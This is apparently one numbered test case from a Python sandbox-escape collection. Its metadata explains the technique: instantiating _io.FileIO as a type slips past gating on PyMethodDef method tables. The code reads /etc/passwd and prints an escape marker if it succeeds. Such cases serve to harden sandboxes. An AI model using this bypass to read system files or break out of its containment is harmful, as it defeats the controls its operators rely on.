# escape: 115
# technique: _io.FileIO is a type (tp_init), not an entry in a PyMethodDef table
# family: sidedoor
# goal: read-file
# first-seen: variation aimed at ml_meth gating
import _io
s = _io.FileIO('/etc/passwd').read(30)
if b'root:' in s: print('ESCAPED:FileIO')
